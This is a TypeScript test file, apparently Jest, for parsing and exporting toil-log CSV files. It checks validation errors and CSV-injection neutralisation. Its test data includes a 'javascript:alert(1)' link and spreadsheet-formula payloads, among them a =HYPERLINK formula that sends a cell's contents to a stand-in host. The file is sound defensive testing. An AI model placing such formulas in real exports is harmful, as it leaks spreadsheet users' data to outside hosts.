import Papa from 'papaparse';
import { MAX_CSV_ROWS, parseToilCsv, TOIL_CSV_COLUMNS, toilToCsv } from './csv';
import { NO_TRAITS } from './model';
import { T0, toilFields } from './testing';

const NOW = T0 + 86_400_000;
const HEADER = TOIL_CSV_COLUMNS.join(',');
const row = (over: Partial<Record<(typeof TOIL_CSV_COLUMNS)[number], string>> = {}) => {
  const base: Record<string, string> = {
    task: 'Restart payments pod',
    team: 'Payments',
    who: 'alice',
    at: '2026-11-02T09:00:00Z',
    minutes: '30',
    kind: 'manual_operation',
    manual: 'true',
    repetitive: 'true',
    automatable: 'false',
    tactical: 'false',
    noEnduringValue: 'false',
    growsWithService: 'false',
    link: '',
    note: '',
    ...over,
  };
  return TOIL_CSV_COLUMNS.map((c) => base[c]).join(',');
};

describe('parseToilCsv', () => {
  it('reads a file into entry fields, with the line of each row', () => {
    const parsed = parseToilCsv(
      [HEADER, row(), row({ task: 'Rotate certs', minutes: '1h30m', link: 'INC-20261102-ab12' })].join('\n'),
      NOW
    );
    expect(parsed.problems).toEqual([]);
    expect(parsed.total).toBe(2);
    expect(parsed.rows.map((r) => r.line)).toEqual([2, 3]);
    expect(parsed.rows[0].fields).toEqual({
      task: 'Restart payments pod',
      team: 'Payments',
      who: 'alice',
      at: T0,
      durationMinutes: 30,
      kind: 'manual_operation',
      traits: { ...NO_TRAITS, manual: true, repetitive: true },
    });
    expect(parsed.rows[1].fields).toMatchObject({
      task: 'Rotate certs',
      durationMinutes: 90,
      link: 'INC-20261102-ab12',
    });
  });

  it('takes columns in any order, optional ones missing, kind labels, yes/no traits and a BOM', () => {
    const text =
      '\uFEFFminutes,who,team,task,at,kind,automatable\r\n45,bob,SRE,Renew cert,2026-11-02 08:00:00+01:00,On-call page,yes\r\n';
    const parsed = parseToilCsv(text, NOW);
    expect(parsed.problems).toEqual([]);
    expect(parsed.rows[0].fields).toEqual({
      task: 'Renew cert',
      team: 'SRE',
      who: 'bob',
      at: Date.UTC(2026, 10, 2, 7),
      durationMinutes: 45,
      kind: 'oncall_page',
      traits: { ...NO_TRAITS, automatable: true },
    });
  });

  it('reports every bad row by file line and column, counting lines inside quoted cells, and keeps the good rows', () => {
    const text = [
      HEADER,
      row(),
      row({ note: '"two\nlines"' }),
      '',
      row({ task: '', at: 'yesterday', minutes: 'soon', manual: 'maybe' }),
      row({ link: 'javascript:alert(1)', kind: 'chores', team: ' ' }),
      row({ at: '2026-11-02T09:00:00' }),
    ].join('\n');
    const parsed = parseToilCsv(text, NOW);
    expect(parsed.rows.map((r) => r.line)).toEqual([2, 3]);
    expect(parsed.rows[1].fields.note).toBe('two\nlines');
    expect(parsed.total).toBe(5);
    expect(parsed.badLines).toEqual([6, 7, 8]);
    expect(parsed.problems).toEqual([
      { line: 6, column: 'at', message: 'must be an ISO 8601 time with a zone, e.g. 2026-11-28T09:30:00Z' },
      { line: 6, column: 'minutes', message: 'must be a number of minutes, e.g. 90 (or 1h30m)' },
      { line: 6, column: 'manual', message: 'must be true or false' },
      { line: 6, column: 'task', message: 'Say what the work was' },
      { line: 7, column: 'kind', message: expect.stringMatching(/^must be one of interrupt, oncall_page/) },
      { line: 7, column: 'team', message: 'Pick or type the team' },
      { line: 7, column: 'link', message: 'must be an incident id or an http(s) URL' },
      { line: 8, column: 'at', message: expect.stringContaining('with a zone') },
    ]);
  });

  it('refuses a file whose header is wrong, naming the columns, and imports nothing from it', () => {
    const parsed = parseToilCsv('task,team,minuts,notes\nA,B,30,x\n', NOW);
    expect(parsed.rows).toEqual([]);
    expect(parsed.problems).toEqual([
      {
        line: 1,
        column: 'minuts',
        message: expect.stringContaining('unknown column; the columns are task, team, who, at, minutes'),
      },
      { line: 1, column: 'notes', message: expect.stringContaining('unknown column') },
      { line: 1, column: 'who', message: expect.stringContaining('is missing') },
      { line: 1, column: 'at', message: expect.stringContaining('is missing') },
      { line: 1, column: 'minutes', message: expect.stringContaining('is missing') },
    ]);
    expect(parseToilCsv('', NOW).problems[0].message).toMatch(/empty/);
  });

  it('refuses rows with more cells than the header and files over the row limit', () => {
    expect(parseToilCsv(`${HEADER}\n${row()},surprise\n`, NOW).problems).toEqual([
      { line: 2, column: '(extra)', message: expect.stringContaining('more cells') },
    ]);
    const big = [HEADER, ...Array.from({ length: MAX_CSV_ROWS + 1 }, () => row())].join('\n');
    expect(parseToilCsv(big, NOW)).toMatchObject({
      rows: [],
      problems: [{ line: 1, message: expect.stringContaining('at most') }],
    });
  });
});

describe('toilToCsv', () => {
  it('neutralises cells a spreadsheet would run as a formula (OWASP CSV injection)', () => {
    const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd'];
    const csv = toilToCsv(hostile.map((task) => toilFields({ task, note: task })));
    const cells = Papa.parse<string[]>(csv).data.slice(1);
    for (const [i, text] of hostile.entries()) {
      expect(cells[i][0]).toBe(`'${text}`);
      expect(cells[i][TOIL_CSV_COLUMNS.indexOf('note')]).toBe(`'${text}`);
    }
    // Every cell is quoted, so an embedded quote or comma cannot start a new cell.
    expect(csv.split('\r\n')[1].startsWith(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`)).toBe(true);
    expect(toilToCsv([toilFields({ task: 'ok = fine' })]).split('\r\n')[1]).toMatch(/^"ok = fine",/);
  });

  it('round-trips: export then import gives the same fields, formula-looking text and quotes included', () => {
    const entries = [
      toilFields(),
      toilFields({
        task: '=HYPERLINK("http://evil.example","x")',
        team: 'SRE, core',
        who: 'bob',
        at: T0 + 1234,
        durationMinutes: 1.5,
        kind: 'oncall_page',
        traits: { ...NO_TRAITS, growsWithService: true, tactical: true },
        link: 'https://tickets.example/OPS-1?a=1&b="2"',
        note: '\'=already quoted\nsecond line, with "quotes"',
      }),
      toilFields({ task: "'-leading quote", kind: 'other', traits: NO_TRAITS }),
    ];
    const parsed = parseToilCsv(toilToCsv(entries), NOW);
    expect(parsed.problems).toEqual([]);
    expect(parsed.rows.map((r) => r.fields)).toEqual(entries);
  });
});
